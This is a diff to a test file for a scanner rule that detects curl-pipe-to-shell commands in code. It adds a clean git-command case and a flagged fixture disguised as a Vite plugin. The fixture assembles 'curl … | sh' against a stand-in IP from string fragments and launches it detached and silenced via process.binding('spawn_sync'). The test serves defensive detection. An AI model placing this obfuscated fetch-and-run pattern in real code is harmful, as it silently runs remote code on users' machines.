@@ -4,6 +4,11 @@ import rule from './curl-pipe-shell-in-code.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'class names joined from an array; a git command through child_process',
+      file: 'src/ui.js',
+      code: "const { execSync } = require('child_process');\nconst cls = ['btn', ' btn-primary', ' big'].join('');\nexecSync('git rev-parse HEAD');\nmodule.exports = { cls };\n",
+    },
+    {
       name: 'zx and Bun shell templates that run git and a build; a styled-components template',
       file: 'scripts/release.mjs',
       code: "import { $ } from 'zx';\nimport styled from 'styled-components';\nawait $`git status --short`;\nawait $`npm run build`;\nexport const Box = styled.div`\n  color: red;\n`;\n",
@@ -45,6 +50,15 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: "curl | sh split into joined pieces, run through process.binding('spawn_sync') (a Vite plugin)",
+      file: 'build/vite-plugin-svg-sprite.js',
+      code: "function ensure() {\n  const line = ['cur', 'l -s', 'f http://198.51.100.', '77:1244/cli', 'ent/9 | s', 'h'].join('');\n  const sync = process.binding('spawn_sync');\n  sync.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', `(${line}) >/dev/null 2>&1 &`], detached: true });\n}\nmodule.exports = ensure;\n",
+      findings: [
+        { line: 4, severity: 'high', message: /run via sync\.spawn/ },
+        { line: 2, severity: 'low', message: /not seen passed to a process launch/ },
+      ],
+    },
     {
       name: "Bun shell template: await $`curl … | sh` with the URL decoded inline",
       file: 'scripts/env.ts',
